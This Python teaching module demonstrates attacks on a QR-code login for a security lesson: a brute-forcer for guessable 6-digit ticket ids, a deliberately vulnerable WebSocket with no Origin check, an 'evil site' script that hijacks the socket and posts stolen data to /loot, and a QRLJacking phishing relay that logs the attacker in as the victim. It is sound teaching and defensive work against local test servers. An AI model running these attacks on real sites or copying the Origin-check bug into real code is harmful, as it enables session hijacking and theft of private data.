"""Lesson 10's attack demonstrations: guessable ids, cross-site WebSocket hijacking, QRLJacking.

Why this module exists: lesson 10 claims that our QR login resists attacks, and a claim is only
worth what a demonstration shows. So each attack here is real - real HTTP, real WebSocket
handshakes, real servers on free ports - and each is aimed first at something deliberately weak,
then at the real app:

- **Guessing ids.** :func:`measure_id_scheme` measures the entropy of an id generator from its
  output (``Σ log2(distinct characters seen at each position)``); :func:`expected_guess_seconds`
  turns bits into the expected time to hit a live ticket; :class:`WeakTicketApp` issues 6-digit
  ids and :func:`guess_live_ticket` guesses one for real over keep-alive HTTP.
- **Cross-site WebSocket hijacking (CSWSH).** :class:`VulnerableAccountSocket` is a cookie-
  authenticated WebSocket that *skips the Origin check* (the mistake, kept only for this lesson);
  :class:`ProtectedAccountSocket` is the same handler with the app's check
  (``auth.socket_origin_refusal``: an allowlist, and a missing Origin refused when cookies are
  sent). :func:`add_account_sockets` mounts both on a running QR-login server;
  :class:`EvilSiteApp` is "a page from another origin" that opens the socket from a browser;
  :func:`hijack` is the same attack from Python, setting ``Origin`` and ``Cookie`` as a browser would.
- **QRLJacking (OWASP).** :class:`PhishingApp` is the attacker's site: its server acts as the
  attacker's browser on the real site, relays the real site's live QR code to the victim, and
  redeems the ticket when the victim's phone confirms. :func:`confirm_page_facts` reads what the
  phone's confirm page tells the victim (the requesting browser's address and agent).

Everything binds port 0 and keeps its state on its application object.
"""
from __future__ import annotations

import asyncio
import html
import json
import math
import random
import re
import secrets
import time
import urllib.parse
from typing import Any, Callable, Iterable

import pandas as pd
import tornado.httpclient
import tornado.websocket

from servers import runtime
from servers.clients.qr import AsyncBrowser, QRError
from servers.qrlogin import auth
from servers.runtime import ServerApp, ServerHandle, serve
from servers.web import ApiError, BaseHandler, BaseWebSocketHandler

__all__ = ["ATTACKER_ADDRESS", "ATTACKER_AGENT", "ACCOUNT_PATHS", "measure_id_scheme", "id_positions",
           "expected_guesses", "expected_guess_seconds", "guess_time_frame", "six_digit_id", "WeakTicketApp",
           "start_weak_ticket_server", "guess_live_ticket", "VulnerableAccountSocket", "TornadoDefaultAccountSocket",
           "ProtectedAccountSocket", "add_account_sockets", "hijack", "EvilSiteApp", "start_evil_site",
           "AttackerBrowser", "PhishingApp", "start_phishing_site", "wait_for_victory", "confirm_page_facts",
           "send_oversized_message", "burst_of_calls"]

# The attacker's own machine and browser, as the QR-login server records them.
ATTACKER_ADDRESS = "127.0.0.66"
ATTACKER_AGENT = "Mozilla/5.0 (X11; Linux x86_64) HeadlessChrome/120.0 (the attacker's relay)"


# ---------------------------------------------------------------------------------------------
# Entropy: measured from the ids themselves, then turned into time.


def id_positions(ids: Iterable[str]) -> pd.DataFrame:
    """One row per character position: how many distinct characters the samples show there.

    ``bits`` is ``log2(distinct)``: a position that takes 64 values carries 6 bits, one that
    takes 4 values (the last character of a 16-byte ``token_urlsafe``) carries 2.
    """
    ids = list(ids)
    length = max(len(i) for i in ids)
    rows = []
    for position in range(length):
        seen = {i[position] for i in ids if len(i) > position}
        rows.append({"position": position, "distinct": len(seen), "bits": math.log2(len(seen)) if seen else 0.0})
    return pd.DataFrame(rows)


def measure_id_scheme(make_id: Callable[[], str], samples: int = 4000, name: str | None = None) -> dict[str, Any]:
    """Entropy of an id generator, measured from ``samples`` ids it makes.

    ``bits_measured`` = Σ over positions of log2(distinct characters seen there): with enough
    samples (every value seen at least once) it is the generator's entropy for uniform,
    independent positions (true of ``secrets.token_urlsafe`` and of random digits). It can only
    under-estimate with too few samples, never over-estimate.
    """
    ids = [make_id() for _ in range(samples)]
    positions = id_positions(ids)
    alphabet = sorted({c for i in ids for c in i})
    return {"scheme": name or getattr(make_id, "__name__", "ids"), "example": ids[0], "samples": samples,
            "length": max(len(i) for i in ids), "alphabet_size": len(alphabet),
            "bits_measured": round(float(positions["bits"].sum()), 1),
            "duplicates": samples - len(set(ids))}


def six_digit_id() -> str:
    """A weak id scheme: six decimal digits (from the CSPRNG - which does not save it)."""
    return f"{secrets.randbelow(10 ** 6):06d}"


def expected_guesses(bits: float, live: int = 1) -> float:
    """Expected guesses (distinct, random order) until one of ``live`` tickets among 2**bits is hit.

    Drawing without replacement from N = 2**bits ids of which L are live, the first hit comes
    on average at guess (N + 1) / (L + 1).
    """
    return (2.0 ** bits + 1) / (live + 1)


def expected_guess_seconds(bits: float, live: int = 1, rate_per_s: float = 1000.0) -> float:
    """Expected time to guess one of ``live`` live ticket ids at ``rate_per_s`` guesses per second."""
    return expected_guesses(bits, live) / rate_per_s


def guess_time_frame(bits: Iterable[float], live: int, rate_per_s: float, ttl_s: float | None = None) -> pd.DataFrame:
    """Expected guessing time per id size; ``within_ttl`` when it is shorter than a ticket's life."""
    rows = []
    for b in bits:
        seconds = expected_guess_seconds(b, live, rate_per_s)
        row = {"bits": b, "live_tickets": live, "guesses_per_s": rate_per_s, "expected_s": seconds,
               "expected_years": seconds / (365.25 * 24 * 3600)}
        if ttl_s is not None:
            row["within_ttl"] = seconds < ttl_s
        rows.append(row)
    return pd.DataFrame(rows)


class _WeakTicketHandler(BaseHandler):
    async def get(self, ticket_id: str) -> None:
        app: WeakTicketApp = self.application  # type: ignore[assignment]
        app.lookups += 1
        owner = app.tickets.get(ticket_id)
        if owner is None:
            raise ApiError(404, "unknown_ticket", f"No ticket {ticket_id!r}.")
        self.write_json({"ticket": ticket_id, "owner": owner, "state": "pending"})


class _WeakCreateHandler(BaseHandler):
    async def post(self) -> None:
        app: WeakTicketApp = self.application  # type: ignore[assignment]
        ticket = app.make_id()
        app.tickets[ticket] = self.get_argument("owner", f"user{len(app.tickets)}")
        self.write_json({"ticket": ticket}, status=201)


class WeakTicketApp(ServerApp):
    """A deliberately weak ticket server (lesson 10 only): ids are ``digits`` decimal digits.

    ``POST /tickets`` issues one; ``GET /tickets/{id}`` answers 200 for a live ticket, 404 else -
    exactly the oracle an attacker needs. ``tickets`` (id → owner) and ``lookups`` live here.
    """

    def __init__(self, name: str = "weak-tickets", digits: int = 6) -> None:
        super().__init__([(r"/tickets", _WeakCreateHandler), (r"/tickets/([0-9]{1,12})", _WeakTicketHandler)], name=name)
        self.digits = digits
        self.tickets: dict[str, str] = {}
        self.lookups = 0

    def make_id(self) -> str:
        while True:
            ticket = f"{secrets.randbelow(10 ** self.digits):0{self.digits}d}"
            if ticket not in self.tickets:
                return ticket


def start_weak_ticket_server(live: int = 100, digits: int = 6, name: str = "weak-tickets") -> ServerHandle:
    """Start a :class:`WeakTicketApp` holding ``live`` pending tickets of other users."""
    handle = serve(WeakTicketApp(name, digits))

    def fill(app: WeakTicketApp) -> None:
        for n in range(live):
            app.tickets[app.make_id()] = f"user{n}"

    handle.call(fill)
    return handle


async def _guess_on_one_connection(host: str, port: int, guesses: list[str], found: asyncio.Future,
                                   tried: list[int], pipeline: int = 16) -> None:
    """Send guesses on one keep-alive connection, ``pipeline`` requests per write (HTTP/1.1
    pipelining: the server answers them in order), as a scripted attacker would."""
    reader, writer = await asyncio.open_connection(host, port)
    try:
        for start in range(0, len(guesses), pipeline):
            if found.done():
                return
            batch = guesses[start:start + pipeline]
            writer.write(b"".join(f"GET /tickets/{g} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode() for g in batch))
            for guess in batch:
                head = await reader.readuntil(b"\r\n\r\n")
                length = int(re.search(rb"(?i)content-length:\s*(\d+)", head).group(1))
                body = await reader.readexactly(length)
                tried[0] += 1
                if head.startswith(b"HTTP/1.1 200") and not found.done():
                    found.set_result((guess, json.loads(body)))
    finally:
        writer.close()


async def guess_live_ticket_async(url: str, digits: int = 6, max_guesses: int = 200_000, connections: int = 8,
                                  seed: int | None = None) -> dict[str, Any]:
    """Guess ids of a :class:`WeakTicketApp` in random order, without repeats, until one is live."""
    parts = urllib.parse.urlsplit(url)
    host, port = parts.hostname, parts.port or 80
    rng = random.Random(seed)
    space = 10 ** digits
    order = [f"{n:0{digits}d}" for n in rng.sample(range(space), min(max_guesses, space))]
    found: asyncio.Future = asyncio.get_running_loop().create_future()
    tried = [0]
    share = [order[i::connections] for i in range(connections)]
    started = time.perf_counter()
    workers = [asyncio.ensure_future(_guess_on_one_connection(host, port, part, found, tried)) for part in share]
    waiter = asyncio.ensure_future(asyncio.wait(workers))
    await asyncio.wait([found, waiter], return_when=asyncio.FIRST_COMPLETED)
    seconds = time.perf_counter() - started
    for worker in workers:
        worker.cancel()
    await asyncio.gather(*workers, return_exceptions=True)
    ticket, answer = found.result() if found.done() else (None, None)
    return {"digits": digits, "bits": round(digits * math.log2(10), 1), "found": ticket, "owner": (answer or {}).get("owner"),
            "guesses": tried[0], "seconds": round(seconds, 3), "guesses_per_s": round(tried[0] / seconds, 1)}


def guess_live_ticket(url: Any, digits: int = 6, max_guesses: int = 200_000, connections: int = 8,
                      seed: int | None = None, timeout: float = 90) -> dict[str, Any]:
    """:func:`guess_live_ticket_async`, blocking (for a cell): guesses, seconds, rate, the ticket found."""
    return runtime.run(guess_live_ticket_async(getattr(url, "url", url), digits, max_guesses, connections, seed),
                       timeout=timeout)


# ---------------------------------------------------------------------------------------------
# Cross-site WebSocket hijacking.

ACCOUNT_PATHS = {"vulnerable": "/lesson10/vulnerable/account/ws", "tornado_default": "/lesson10/tornado-default/account/ws",
                 "protected": "/lesson10/protected/account/ws"}


class VulnerableAccountSocket(BaseWebSocketHandler):
    """DELIBERATELY VULNERABLE (lesson 10 only): a cookie-authenticated WebSocket with no Origin check.

    It trusts the session cookie alone and sends the logged-in user's private data. Any page the
    user visits can open it: the browser attaches the cookie to the handshake, whatever page
    asked. ``check_origin`` returning True is the whole mistake (Tornado's default would refuse a
    foreign Origin - but still accept a missing one).
    """

    def check_origin(self, origin: str) -> bool:
        return True  # THE BUG: never look at Origin

    def refusal(self) -> str | None:
        return None

    async def open(self) -> None:
        reason = self.refusal()
        if reason:
            self.close(1008, reason)
            return
        accounts = self.application.accounts  # type: ignore[attr-defined]
        user = await accounts.user_for_session(self.get_cookie(auth.SESSION_COOKIE))
        if user is None:
            self.close(1008, "not logged in (no valid session cookie)")
            return
        private = {"user": user, "email": f"{user}@example.test", "unread_messages": 3,
                   "note": f"{user}'s private data, sent because the session cookie came along"}
        self.write_message(json.dumps(private)).add_done_callback(lambda f: f.exception())

    def on_message(self, message: Any) -> None:
        self.close(1003, "this socket only talks")


class TornadoDefaultAccountSocket(VulnerableAccountSocket):
    """The same socket with Tornado's default ``check_origin``: a foreign Origin gets a 403 at the
    handshake, but a handshake *without* Origin is never checked at all."""

    check_origin = tornado.websocket.WebSocketHandler.check_origin


class ProtectedAccountSocket(VulnerableAccountSocket):
    """The same socket with the QR-login app's WebSocket Origin policy (closed 1008 before any data)."""

    def refusal(self) -> str | None:
        app = self.application
        return auth.socket_origin_refusal(self.request, getattr(app, "public_url", None),
                                          getattr(app, "allowed_origins", ()))


def add_account_sockets(handle: ServerHandle) -> dict[str, str]:
    """Mount the three account sockets on a running QR-login server; their ``ws://`` URLs by kind."""

    def mount(app: Any) -> None:
        if not getattr(app, "_lesson10_sockets", False):
            app.add_handlers(r".*", [(ACCOUNT_PATHS["vulnerable"], VulnerableAccountSocket),
                                     (ACCOUNT_PATHS["tornado_default"], TornadoDefaultAccountSocket),
                                     (ACCOUNT_PATHS["protected"], ProtectedAccountSocket)])
            app._lesson10_sockets = True

    handle.call(mount)
    return {kind: handle.ws_url + path for kind, path in ACCOUNT_PATHS.items()}


async def hijack_async(ws_url: str, origin: str | None = None, cookies: dict[str, str] | None = None,
                       timeout: float = 5.0) -> dict[str, Any]:
    """Open ``ws_url`` as a browser on another page would: with that page's Origin and the victim's cookies.

    Returns ``outcome`` ("read" when data came back, "refused" otherwise), what was read, and the
    close code and reason (or the HTTP status of a refused handshake).
    """
    headers = {}
    if origin is not None:
        headers["Origin"] = origin
    if cookies:
        headers["Cookie"] = "; ".join(f"{k}={v}" for k, v in cookies.items())
    request = tornado.httpclient.HTTPRequest(ws_url, headers=headers, connect_timeout=timeout, request_timeout=timeout)
    result: dict[str, Any] = {"origin": origin, "cookies": bool(cookies), "outcome": "refused", "data": None,
                              "status": 101, "close_code": None, "close_reason": None}
    try:
        conn = await tornado.websocket.websocket_connect(request)
    except tornado.httpclient.HTTPClientError as exc:
        result["status"] = exc.code
        return result
    messages = []
    while True:
        message = await asyncio.wait_for(conn.read_message(), timeout)
        if message is None:
            break
        messages.append(json.loads(message))
        if len(messages) == 1:
            conn.close(1000)
    if messages:
        result["outcome"], result["data"] = "read", messages[0]
    result["close_code"], result["close_reason"] = conn.close_code, conn.close_reason
    return result


def hijack(ws_url: str, origin: str | None = None, cookies: dict[str, str] | None = None,
           timeout: float = 5.0) -> dict[str, Any]:
    """:func:`hijack_async`, blocking (for a cell)."""
    return runtime.run(hijack_async(ws_url, origin, cookies, timeout), timeout=timeout + 5)


_EVIL_PAGE = """<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Free prizes!</title></head>
<body><h1>Congratulations, you won!</h1><p>(This page is lesson 10's attacker, on another origin.)</p>
<pre id="log"></pre>
<script>
"use strict";
const target = %s;
const log = (line) => { document.getElementById("log").textContent += line + "\\n"; };
const report = (obj) => fetch("loot", {method: "POST", body: JSON.stringify(obj)});
const ws = new WebSocket(target);
ws.onmessage = (e) => { log("read: " + e.data); report({read: JSON.parse(e.data)}); };
ws.onclose = (e) => { log("closed " + e.code + " " + e.reason); report({closed: e.code, reason: e.reason}); };
</script></body></html>
"""


class _EvilPage(BaseHandler):
    def get(self) -> None:
        app: EvilSiteApp = self.application  # type: ignore[assignment]
        self.set_header("Content-Type", "text/html; charset=UTF-8")
        self.finish(_EVIL_PAGE % json.dumps(app.target_ws_url).replace("</", "<\\/"))


class _EvilLoot(BaseHandler):
    def get(self) -> None:
        self.write_json({"loot": self.application.loot})  # type: ignore[attr-defined]

    def post(self) -> None:
        app: EvilSiteApp = self.application  # type: ignore[assignment]
        app.record(self.json_body())
        self.write_json({"ok": True})


class EvilSiteApp(ServerApp):
    """The attacker's page, served from another origin (another port): it opens ``target_ws_url``
    in the visitor's browser and posts whatever it reads, or how it was closed, to ``/loot``."""

    def __init__(self, target_ws_url: str, name: str = "evil-site") -> None:
        super().__init__([(r"/", _EvilPage), (r"/loot", _EvilLoot)], name=name)
        self.target_ws_url = target_ws_url
        self.loot: list[dict[str, Any]] = []
        self._waiters: list[asyncio.Future] = []

    def record(self, item: dict[str, Any]) -> None:
        self.loot.append(item)
        for waiter in self._waiters:
            if not waiter.done():
                waiter.set_result(item)
        self._waiters.clear()

    async def wait_for_reports(self, count: int = 1, timeout: float = 10.0) -> list[dict[str, Any]]:
        """The first ``count`` reports of the page (read data, or a close), waiting for them if need be."""

        async def wait() -> list[dict[str, Any]]:
            while len(self.loot) < count:
                waiter = asyncio.get_running_loop().create_future()
                self._waiters.append(waiter)
                await waiter
            return list(self.loot[:count])

        return await asyncio.wait_for(wait(), timeout)


def start_evil_site(target_ws_url: str, name: str = "evil-site") -> ServerHandle:
    """Start the attacker's page on a free port (another origin than the target)."""
    return serve(EvilSiteApp(target_ws_url, name))


# ---------------------------------------------------------------------------------------------
# QRLJacking: a phishing site relaying the real site's live QR code.


class AttackerBrowser(AsyncBrowser):
    """The attacker's browser on the real site (its own address, agent and binding cookie)."""

    agent = ATTACKER_AGENT


_PHISHING_PAGE = """<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Sign in with your phone</title></head>
<body><h1>Sign in to {site} with your phone</h1>
<p>Open the app on your phone and scan this code.</p>
<img id="qr" src="qr.png" alt="QR code" width="240" height="240">
<script>
// Keep the relayed code fresh, as QRLJacking kits do: a new image before the old one expires.
setInterval(() => {{ document.getElementById("qr").src = "qr.png?" + Date.now(); }}, {refresh_ms});
</script></body></html>
"""


class _PhishingPage(BaseHandler):
    def get(self) -> None:
        app: PhishingApp = self.application  # type: ignore[assignment]
        self.set_header("Content-Type", "text/html; charset=UTF-8")
        self.finish(_PHISHING_PAGE.format(site=html.escape(app.target_url), refresh_ms=int(app.refresh_s * 1000)))


class _PhishingQR(BaseHandler):
    async def get(self) -> None:
        app: PhishingApp = self.application  # type: ignore[assignment]
        png = await app.relay_qr()
        self.set_header("Content-Type", "image/png")
        self.set_header("Cache-Control", "no-store")
        self.finish(png)


class _PhishingStatus(BaseHandler):
    def get(self) -> None:
        self.write_json(self.application.status())  # type: ignore[attr-defined]


class PhishingApp(ServerApp):
    """The QRLJacking attacker (OWASP): a look-alike page showing the real site's live QR code.

    Its server is the attacker's browser on the real site: on each ``GET /qr.png`` it makes sure
    it holds a live ticket there (a new one when the last is about to expire), fetches the real
    ``/qr/{id}.png`` and relays the bytes. It watches its ticket over SSE like the real login page
    does, and when the victim's phone confirms, it redeems the ticket with *its own* binding
    cookie: the attacker's browser is now logged in as the victim. ``GET /status`` shows the
    attacker's side (the lesson's window into it).
    """

    def __init__(self, target_url: str, name: str = "phish", refresh_s: float = 20.0,
                 attacker_address: str | None = ATTACKER_ADDRESS) -> None:
        super().__init__([(r"/", _PhishingPage), (r"/qr\.png", _PhishingQR), (r"/status", _PhishingStatus)], name=name)
        self.target_url = str(target_url).rstrip("/")
        self.refresh_s = float(refresh_s)
        self.attacker = AttackerBrowser(self.target_url, "sse", attacker_address)
        self.ticket: dict[str, Any] | None = None
        self.tickets_created = 0
        self.relayed = 0
        self.logged_in_as: str | None = None
        self.events: list[dict[str, Any]] = []
        self.victory: asyncio.Future | None = None
        self._watchers: list[asyncio.Task] = []
        self._lock: asyncio.Lock | None = None

    async def startup(self) -> None:
        self.victory = asyncio.get_running_loop().create_future()
        self._lock = asyncio.Lock()

    async def shutdown(self) -> None:
        for task in self._watchers:
            task.cancel()
        await asyncio.gather(*self._watchers, return_exceptions=True)

    async def live_ticket(self) -> dict[str, Any]:
        """The attacker's current ticket on the real site, a fresh one if it is near its expiry."""
        async with self._lock:
            fresh_enough = self.ticket is not None and self.ticket["expires_at"] - time.time() > self.refresh_s
            if not fresh_enough:
                self.ticket = await self.attacker.create_ticket()
                self.tickets_created += 1
                self._watchers.append(asyncio.ensure_future(self._watch(self.ticket["ticket"])))
            return self.ticket

    async def relay_qr(self) -> bytes:
        ticket = await self.live_ticket()
        request = tornado.httpclient.HTTPRequest(f"{self.target_url}/qr/{ticket['ticket']}.png",
                                                 headers=self.attacker.headers(),
                                                 network_interface=self.attacker.source_address, request_timeout=10)
        response = await tornado.httpclient.AsyncHTTPClient().fetch(request)
        self.relayed += 1
        return response.body

    async def _watch(self, ticket: str) -> None:
        channel = None
        try:
            channel = await self.attacker.open_channel(ticket)
            seen = await channel.wait_for("confirmed", timeout=3600)
            self.events.append({"ticket": ticket, "state": seen["state"], "at": time.time()})
            if seen["state"] == "confirmed":
                redeemed = await self.attacker.redeem(ticket)
                self.logged_in_as = (await self.attacker.whoami())["user"]
                self.events.append({"ticket": ticket, "state": redeemed["state"], "at": time.time()})
                if self.victory is not None and not self.victory.done():
                    self.victory.set_result({"ticket": ticket, "user": self.logged_in_as,
                                             "session_cookie": self.attacker.cookies.get(auth.SESSION_COOKIE)})
        except (QRError, EOFError, asyncio.TimeoutError, OSError) as exc:
            self.events.append({"ticket": ticket, "error": str(exc), "at": time.time()})
        finally:
            if channel is not None:
                await channel.close()

    def status(self) -> dict[str, Any]:
        ticket = self.ticket or {}
        return {"ticket": ticket.get("ticket"), "scan_url": ticket.get("scan_url"), "expires_at": ticket.get("expires_at"),
                "tickets_created": self.tickets_created, "qr_images_relayed": self.relayed,
                "attacker_logged_in_as": self.logged_in_as}


def start_phishing_site(target: Any, name: str = "phish", refresh_s: float = 20.0,
                        attacker_address: str | None = ATTACKER_ADDRESS) -> ServerHandle:
    """Start the QRLJacking attacker's site against ``target`` (a URL or a server handle)."""
    return serve(PhishingApp(getattr(target, "url", target), name, refresh_s, attacker_address))


def wait_for_victory(phishing: ServerHandle, timeout: float = 10.0) -> dict[str, Any]:
    """Block until the attacker's browser is logged in (``TimeoutError`` if it never is)."""

    async def wait() -> dict[str, Any]:
        return await asyncio.wait_for(asyncio.shield(phishing.app.victory), timeout)

    try:
        return runtime.run(wait(), timeout=timeout + 5)
    except asyncio.TimeoutError:
        raise TimeoutError(f"the attacker was not logged in within {timeout} s") from None


_FACT_IDS = {"browser_address": "browser-ip", "browser_agent": "browser-ua", "asked_at": "browser-time",
             "state": "ticket-state"}


def confirm_page_facts(page_html: str) -> dict[str, str]:
    """What the phone's confirm page (``GET /m/{id}``) tells the person holding the phone."""
    facts = {}
    for key, element in _FACT_IDS.items():
        match = re.search(rf'id="{element}">(.*?)</dd>', page_html, re.S)
        facts[key] = html.unescape(match.group(1).strip()) if match else ""
    return facts


# ---------------------------------------------------------------------------------------------
# Limits: what the app refuses.


async def send_oversized_message_async(ws_url: str, size: int, origin: str | None = None,
                                       timeout: float = 10.0) -> dict[str, Any]:
    """Open ``ws_url``, read its first message, send ``size`` bytes of text; how did it end?"""
    headers = {"Origin": origin} if origin else {}
    conn = await tornado.websocket.websocket_connect(tornado.httpclient.HTTPRequest(ws_url, headers=headers),
                                                     max_message_size=size + 1024)
    await asyncio.wait_for(conn.read_message(), timeout)
    await conn.write_message("x" * size)
    while await asyncio.wait_for(conn.read_message(), timeout) is not None:
        pass
    return {"sent_bytes": size, "close_code": conn.close_code, "close_reason": conn.close_reason}


def send_oversized_message(ws_url: str, size: int, origin: str | None = None) -> dict[str, Any]:
    """:func:`send_oversized_message_async`, blocking (for a cell)."""
    return runtime.run(send_oversized_message_async(ws_url, size, origin), timeout=30)


def burst_of_calls(url: str, path: str, body: dict[str, Any], n: int, headers: dict[str, str] | None = None,
                   timeout: float = 10.0) -> pd.DataFrame:
    """``n`` POSTs as fast as one client can send them (one after another); one row per call."""
    import requests

    rows = []
    with requests.Session() as session:
        for i in range(n):
            response = session.post(url + path, json=body, headers=headers or {}, timeout=timeout)
            try:
                error = response.json().get("error")
            except ValueError:
                error = None
            rows.append({"call": i + 1, "status": response.status_code, "error": error,
                         "retry_after_s": response.headers.get("Retry-After")})
    return pd.DataFrame(rows)
